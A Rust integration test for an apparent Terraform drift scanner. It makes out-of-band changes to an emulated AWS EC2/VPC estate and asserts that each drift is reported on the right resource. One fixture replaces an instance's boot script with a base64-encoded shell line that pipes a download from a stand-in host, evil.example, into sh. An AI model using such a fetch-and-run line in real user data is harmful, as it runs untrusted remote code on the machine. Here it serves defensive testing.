//! The wider EC2/VPC estate (fixtures/tf/estate), a configuration with
//! every supported type that the pinned provider (3.39) has: split-out
//! routes, ACL rules and address associations, NAT, interfaces, endpoints
//! and the default objects Terraform adopts. (The provider-5 rule types
//! `aws_vpc_security_group_*_rule` are covered by fixtures.) A fresh apply
//! scans clean; then each out-of-band change must be reported exactly, on
//! the resource that declares what changed.

mod common;

use aws_sdk_ec2::types::{Filter, IpPermission, IpRange, RuleAction, Tag};
use common::{Emulator, Workspace, brief, row, scan_json};
use serde_json::json;

/// Every supported type but the two provider-5 rule types.
const TYPES: &[&str] = &[
    "aws_vpc",
    "aws_subnet",
    "aws_internet_gateway",
    "aws_route_table",
    "aws_security_group",
    "aws_security_group_rule",
    "aws_instance",
    "aws_ebs_volume",
    "aws_default_network_acl",
    "aws_default_route_table",
    "aws_default_security_group",
    "aws_eip",
    "aws_eip_association",
    "aws_key_pair",
    "aws_launch_template",
    "aws_nat_gateway",
    "aws_network_acl",
    "aws_network_acl_rule",
    "aws_network_interface",
    "aws_route",
    "aws_route_table_association",
    "aws_volume_attachment",
    "aws_vpc_endpoint",
];

#[tokio::test]
async fn the_estate_scans_clean_after_a_fresh_apply() {
    let emu = Emulator::start();
    let ws = Workspace::apply(&emu, "estate");
    emu.reset_calls();

    let (run, report) = scan_json(&emu, &ws, &[]);

    assert_eq!(brief(&report), [], "{}", run.stdout);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(report["summary"]["not_checked"], json!(0));
    assert_eq!(report["summary"]["managed"], json!(29));
    let state: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(ws.state_path()).unwrap()).unwrap();
    for ty in TYPES {
        assert!(
            state["resources"]
                .as_array()
                .unwrap()
                .iter()
                .any(|r| r["type"] == json!(ty)),
            "{ty} is not in the configuration"
        );
    }
    let calls = emu.calls();
    let total: u64 = calls.values().sum();
    eprintln!(
        "estate fresh-apply scan: {:?} wall, {total} API calls: {calls:?}",
        run.elapsed
    );
    // Exactly one call per listing operation (route tables and
    // associations sharing theirs) and STS; per-resource reads only for
    // what the state manages: three for its one instance, two for its VPC.
    common::assert_one_call_per_listing(&calls, 1, 1);
    assert_eq!(calls.get("DescribeRouteTables"), Some(&1), "{calls:?}");
    assert_eq!(
        report["scan"]["detail_calls"],
        json!({"DescribeInstanceAttribute": 3, "DescribeVpcAttribute": 2})
    );
}

#[tokio::test]
async fn each_out_of_band_change_is_reported_on_what_declares_it() {
    let emu = Emulator::start();
    let ws = Workspace::apply(&emu, "estate");
    // The emulator launches instances unprotected: the second apply turns
    // the bastion's termination protection on, as AWS would at launch.
    ws.reapply(&emu);
    let state = std::fs::read_to_string(ws.state_path()).unwrap();
    assert!(
        state.contains("\"disable_api_termination\": true"),
        "protection on in state"
    );
    let ec2 = emu.ec2().await;
    let id = |a: &str| ws.id(a);

    // aws_route: the split-out route is deleted.
    ec2.delete_route()
        .route_table_id(id("aws_route_table.public"))
        .destination_cidr_block("0.0.0.0/0")
        .send()
        .await
        .unwrap();
    // aws_default_route_table: a route appears in the adopted main table.
    ec2.create_route()
        .route_table_id(id("aws_default_route_table.default"))
        .destination_cidr_block("192.168.0.0/16")
        .gateway_id(id("aws_internet_gateway.gw"))
        .send()
        .await
        .unwrap();
    // aws_route_table_association: the public subnet is disassociated.
    let assoc = id("aws_route_table_association.public");
    ec2.disassociate_route_table()
        .association_id(&assoc)
        .send()
        .await
        .unwrap();
    // aws_network_acl_rule: a split-out rule is deleted...
    ec2.delete_network_acl_entry()
        .network_acl_id(id("aws_network_acl.public"))
        .rule_number(100)
        .egress(false)
        .send()
        .await
        .unwrap();
    // ...and aws_network_acl: a rule nobody declares is added inline.
    ec2.create_network_acl_entry()
        .network_acl_id(id("aws_network_acl.private"))
        .rule_number(200)
        .egress(false)
        .protocol("6")
        .rule_action(RuleAction::Allow)
        .cidr_block("0.0.0.0/0")
        .port_range(
            aws_sdk_ec2::types::PortRange::builder()
                .from(22)
                .to(22)
                .build(),
        )
        .send()
        .await
        .unwrap();
    // aws_default_security_group: an egress rule is added.
    ec2.authorize_security_group_egress()
        .group_id(id("aws_default_security_group.default"))
        .ip_permissions(
            IpPermission::builder()
                .ip_protocol("tcp")
                .from_port(25)
                .to_port(25)
                .ip_ranges(IpRange::builder().cidr_ip("0.0.0.0/0").build())
                .build(),
        )
        .send()
        .await
        .unwrap();
    // aws_eip_association: the bastion's address is taken off it.
    let addresses = ec2
        .describe_addresses()
        .filters(
            Filter::builder()
                .name("allocation-id")
                .values(id("aws_eip.bastion"))
                .build(),
        )
        .send()
        .await
        .unwrap();
    let association = addresses.addresses()[0]
        .association_id()
        .unwrap()
        .to_string();
    ec2.disassociate_address()
        .association_id(association)
        .send()
        .await
        .unwrap();
    // aws_nat_gateway: retagged.
    ec2.create_tags()
        .resources(id("aws_nat_gateway.nat"))
        .tags(Tag::builder().key("Name").value("renamed").build())
        .send()
        .await
        .unwrap();
    // aws_default_network_acl: its allow-all ingress rule is replaced by a deny.
    ec2.replace_network_acl_entry()
        .network_acl_id(id("aws_default_network_acl.default"))
        .rule_number(100)
        .egress(false)
        .protocol("-1")
        .rule_action(RuleAction::Deny)
        .cidr_block("0.0.0.0/0")
        .send()
        .await
        .unwrap();

    // aws_key_pair: deleted.
    ec2.delete_key_pair()
        .key_name("deployer")
        .send()
        .await
        .unwrap();
    // aws_launch_template: a new version made the default by hand.
    let lt = id("aws_launch_template.web");
    ec2.create_launch_template_version()
        .launch_template_id(&lt)
        .launch_template_data(
            aws_sdk_ec2::types::RequestLaunchTemplateData::builder()
                .instance_type(aws_sdk_ec2::types::InstanceType::T3Large)
                .build(),
        )
        .send()
        .await
        .unwrap();
    // aws_volume_attachment: the volume is detached. (The emulator needs
    // the instance and device, which AWS does not.)
    ec2.detach_volume()
        .volume_id(id("aws_ebs_volume.logs"))
        .instance_id(id("aws_instance.bastion"))
        .device("/dev/sdh")
        .send()
        .await
        .unwrap();
    // aws_network_interface: its description is edited.
    ec2.modify_network_interface_attribute()
        .network_interface_id(id("aws_network_interface.appliance"))
        .description(
            aws_sdk_ec2::types::AttributeValue::builder()
                .value("temporary")
                .build(),
        )
        .send()
        .await
        .unwrap();
    // aws_vpc_endpoint: a route table is added to it.
    ec2.modify_vpc_endpoint()
        .vpc_endpoint_id(id("aws_vpc_endpoint.s3"))
        .add_route_table_ids(id("aws_route_table.public"))
        .send()
        .await
        .unwrap();

    // aws_instance: termination protection off, shutdown now terminates,
    // the boot script replaced (settings only DescribeInstanceAttribute
    // reads).
    let bastion = id("aws_instance.bastion");
    let off = aws_sdk_ec2::types::AttributeBooleanValue::builder()
        .value(false)
        .build();
    ec2.modify_instance_attribute()
        .instance_id(&bastion)
        .disable_api_termination(off.clone())
        .send()
        .await
        .unwrap();
    // (The emulator applies this one only in the Attribute/Value form.)
    ec2.modify_instance_attribute()
        .instance_id(&bastion)
        .attribute(aws_sdk_ec2::types::InstanceAttributeName::InstanceInitiatedShutdownBehavior)
        .value("terminate")
        .send()
        .await
        .unwrap();
    ec2.modify_instance_attribute()
        .instance_id(&bastion)
        .user_data(
            aws_sdk_ec2::types::SecureBlobAttributeValue::builder()
                // The SDK sends the blob as given; EC2 wants it base64-encoded.
                .value(aws_sdk_ec2::primitives::Blob::new(
                    "IyEvYmluL3NoCmN1cmwgZXZpbC5leGFtcGxlIHwgc2gK",
                ))
                .build(),
        )
        .send()
        .await
        .unwrap();
    // aws_vpc: both DNS settings switched off.
    let vpc = id("aws_vpc.main");
    ec2.modify_vpc_attribute()
        .vpc_id(&vpc)
        .enable_dns_support(off.clone())
        .send()
        .await
        .unwrap();
    ec2.modify_vpc_attribute()
        .vpc_id(&vpc)
        .enable_dns_hostnames(off)
        .send()
        .await
        .unwrap();

    let (run, report) = scan_json(&emu, &ws, &[]);

    // Findings come worst first within each kind; compare as sets.
    let mut got = brief(&report);
    got.sort();
    assert_eq!(
        got,
        [
            row(
                "changed",
                "aws_default_network_acl.default",
                &["ingress", "ingress"]
            ),
            row("changed", "aws_default_route_table.default", &["route"]),
            row("changed", "aws_default_security_group.default", &["egress"]),
            row(
                "changed",
                "aws_instance.bastion",
                &[
                    "disable_api_termination",
                    "instance_initiated_shutdown_behavior",
                    "user_data"
                ]
            ),
            row("changed", "aws_launch_template.web", &["latest_version"]),
            row("changed", "aws_nat_gateway.nat", &["tags.Name"]),
            row("changed", "aws_network_acl.private", &["ingress"]),
            row(
                "changed",
                "aws_network_interface.appliance",
                &["description"]
            ),
            row(
                "changed",
                "aws_vpc.main",
                &["enable_dns_support", "enable_dns_hostnames"]
            ),
            row("changed", "aws_vpc_endpoint.s3", &["route_table_ids"]),
            row("missing", "aws_eip_association.bastion", &[]),
            row("missing", "aws_key_pair.deployer", &[]),
            row("missing", "aws_network_acl_rule.public_https", &[]),
            row("missing", "aws_route.internet", &[]),
            row("missing", "aws_route_table_association.public", &[]),
            row("missing", "aws_volume_attachment.logs", &[]),
        ],
        "{}",
        run.stdout
    );
    let acl = &report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["address"] == json!("aws_network_acl.private"))
        .unwrap()["changes"][0];
    assert_eq!(
        acl["actual"],
        json!({"rule_no": 200, "action": "allow", "protocol": "tcp", "cidr_block": "0.0.0.0/0", "from_port": 22, "to_port": 22})
    );
    // The script is compared by digest: its text appears nowhere.
    assert!(!run.stdout.contains("evil.example"), "{}", run.stdout);
    let user_data = &report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["address"] == json!("aws_instance.bastion"))
        .unwrap()["changes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["path"] == json!("user_data"))
        .unwrap()
        .clone();
    for side in ["expected", "actual"] {
        let digest = user_data[side].as_str().unwrap();
        assert!(
            digest.len() == 40 && digest.bytes().all(|b| b.is_ascii_hexdigit()),
            "{user_data}"
        );
    }
    assert_eq!(run.code, 1);
}
